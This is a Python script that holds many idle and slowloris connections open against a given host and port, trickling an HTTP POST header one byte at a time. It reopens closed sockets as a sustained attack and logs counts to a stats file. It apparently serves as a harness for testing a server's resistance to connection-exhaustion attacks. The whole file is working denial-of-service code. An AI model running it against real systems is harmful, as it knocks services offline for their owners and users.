#!/usr/bin/env python3
"""Holds idle and slowloris connections against HOST:PORT until killed.

usage: slow_clients.py HOST PORT IDLE SLOW STATS_FILE
  IDLE connections connect and send nothing; SLOW connections send a POST /collect request head
  one byte every 2 s and never finish it. A connection the server closes is reopened at once (a
  sustained attack). Every 2 s STATS_FILE is rewritten with "open=N reopened=N".
"""
import socket
import sys
import time

host, port, n_idle, n_slow, stats_path = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), sys.argv[5]
HEAD = b"POST /collect HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nX-Slow: " + b"a" * 100000


def connect():
    s = socket.socket()
    s.setblocking(False)
    try:
        s.connect((host, port))
    except BlockingIOError:
        pass
    return s


conns = [["idle", connect(), 0] for _ in range(n_idle)] + [["slow", connect(), 0] for _ in range(n_slow)]
reopened = 0
last_stats = 0.0
while True:
    now = time.monotonic()
    for c in conns:
        kind, s, pos = c
        alive = True
        try:
            data = s.recv(4096)
            if data == b"":
                alive = False
        except BlockingIOError:
            pass
        except OSError:
            alive = False
        if alive and kind == "slow":
            try:
                s.send(HEAD[pos:pos + 1])
                c[2] = pos + 1
            except BlockingIOError:
                pass
            except OSError:
                alive = False
        if not alive:
            s.close()
            c[1], c[2] = connect(), 0
            reopened += 1
    if now - last_stats > 2:
        with open(stats_path, "w") as f:
            f.write(f"open={len(conns)} reopened={reopened}\n")
        last_stats = now
    time.sleep(2)
